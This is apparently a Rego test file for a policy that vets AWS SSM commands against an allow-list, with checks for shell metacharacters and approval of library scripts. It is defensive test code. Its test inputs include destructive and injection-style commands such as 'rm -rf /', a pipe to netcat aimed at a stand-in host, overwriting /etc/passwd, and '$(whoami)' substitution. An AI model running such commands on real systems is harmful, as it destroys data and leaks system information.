package opsdeck.rules.ssm_test

import data.opsdeck.rules.ssm

_cfg := {"ssm_allowed_commands": ["df", "uptime", "systemctl status", "free"]}

_results(inp) := ((d | w) | i) if {
	d := ssm.deny with input as inp
	w := ssm.warn with input as inp
	i := ssm.info with input as inp
}

_of(inp, id) := [r | some r in _results(inp); r.rule == id]

_ids(inp) := {r.rule | some r in _results(inp)}

_run(commands) := {"commands": commands, "config": _cfg}

test_allowed_commands_pass if {
	_results(_run(["df -h", "uptime", "free -m", "systemctl status nginx", "systemctl status"])) == set()
}

test_no_commands_pass if {
	_results(_run([])) == set()
	_results({"config": _cfg}) == set()
}

test_disallowed_command_denied if {
	res := _of(_run(["df -h", "rm -rf /var/log"]), "ssm.command_not_allowed")
	count(res) == 1
	contains(res[0].reason, "rm -rf /var/log")
}

test_multi_word_prefix_matches_whole_words if {
	_results(_run(["systemctl status sshd"])) == set()
	res := _of(_run(["systemctl stop sshd"]), "ssm.command_not_allowed")
	count(res) == 1
	contains(res[0].reason, "systemctl stop sshd")
	_ids(_run(["systemctl statusx"])) == {"ssm.command_not_allowed"}
	_ids(_run(["systemctl"])) == {"ssm.command_not_allowed"}
}

test_prefix_must_end_at_word_boundary if {
	_ids(_run(["dfx"])) == {"ssm.command_not_allowed"}
	_ids(_run(["uptimer"])) == {"ssm.command_not_allowed"}
	_ids(_run(["/bin/df -h"])) == {"ssm.command_not_allowed"}
}

test_extra_whitespace_tolerated if {
	_results(_run(["  df   -h", "systemctl\tstatus  nginx"])) == set()
}

test_metacharacters_denied if {
	every command in [
		"df -h; rm -rf /",
		"uptime | nc evil 1",
		"df && reboot",
		"uptime & sleep 9",
		"free `id`",
		"df $(whoami)",
		"df > /etc/passwd",
		"df < /dev/zero",
		"df\nreboot",
	] {
		"ssm.shell_metacharacters" in _ids(_run([command]))
	}
}

test_metacharacter_reason_names_characters if {
	res := _of(_run(["df -h | grep / > out"]), "ssm.shell_metacharacters")
	count(res) == 1
	contains(res[0].reason, "(| >)")
	# the command itself is allowed by prefix
	count(_of(_run(["df -h | grep / > out"]), "ssm.command_not_allowed")) == 0
}

test_plain_dollar_is_not_a_metacharacter if {
	_results(_run(["df $HOME"])) == set()
}

test_each_bad_command_reported if {
	count(_of(_run(["reboot", "shutdown -h now", "df"]), "ssm.command_not_allowed")) == 2
}

test_empty_allow_list_denies_everything if {
	res := _of({"commands": ["df -h"], "config": {"ssm_allowed_commands": []}}, "ssm.command_not_allowed")
	count(res) == 1
	contains(res[0].reason, "none are configured")
	_ids({"commands": ["uptime"], "config": {}}) == {"ssm.command_not_allowed"}
}

test_malformed_input_does_not_error if {
	# the engine evaluates whole packages (data.opsdeck.rules), helpers included
	every garbage in _garbage_inputs {
		doc := ssm with input as garbage
		is_object(doc)
	}
	_ids({"commands": [null, 5, {"cmd": "rm"}, "df"], "config": {"ssm_allowed_commands": [null, "", "  ", "df"]}}) == set()
	_results({"commands": "rm -rf /", "config": {"ssm_allowed_commands": "df"}}) == set()
	_results({"commands": null, "config": null}) == set()
}

_script(approved) := {
	"commands": [],
	"script": {"name": "cleanup", "shell": "bash", "lines": ["#!/bin/bash", "rm -rf /tmp/x; echo $(id)"], "library": {"label": "cleanup@2", "version": 2, "approved": approved}},
	"config": _cfg,
}

test_library_scripts_are_not_judged_as_commands if {
	# The script's lines hold metacharacters and no allow-listed command: neither rule fires.
	_ids(_script(false)) == {"ssm.library_script"}
	res := _of(_script(false), "ssm.library_script")
	contains(res[0].reason, "cleanup@2 (bash)")
	# Without a library version (judged as it is added) nothing is said.
	_results({"script": {"name": "cleanup", "lines": ["x"]}, "config": _cfg}) == set()
}

test_unapproved_scripts_denied_when_the_tenant_requires_approval if {
	strict := object.union(_cfg, {"library_requires_approval": true})
	unapproved := object.union(_script(false), {"config": strict})
	_ids(unapproved) == {"ssm.library_script", "ssm.library_script_unapproved"}
	res := _of(unapproved, "ssm.library_script_unapproved")
	contains(res[0].reason, "library approve cleanup@2")
	_ids(object.union(_script(true), {"config": strict})) == {"ssm.library_script"}
	_ids({"script": {"library": "x"}, "config": strict}) == set()
}

_garbage_inputs := [
	{},
	{"plan": null, "resources": null, "provider": null, "commands": null, "iam_actions": null, "context": null, "config": null},
	{
		"plan": {"region": 1, "environment": "prod", "action": 3, "mutates": "yes", "requester": null, "requester_roles": "x", "stack": 5},
		"resources": [null, 1, "s", [], {"type": null, "address": null, "attributes": [1], "change": 5, "mode": null}],
		"provider": {"region": [], "default_tags": [1]},
		"commands": [1, null, ""],
		"iam_actions": [null, 1],
		"context": {"now": {"weekday": "", "hour": "2", "minute": "x"}},
		"config": {
			"allowed_regions": [1, null],
			"instance_types": {"prod": "m5", "*": [1]},
			"required_tags": [null],
			"pipeline_role": 5,
			"maintenance_windows": [null, {"days": null, "start": 1, "end": null}, {"days": [], "start": ":", "end": "0a:00"}],
			"ssm_allowed_commands": [1, null],
		},
	},
]
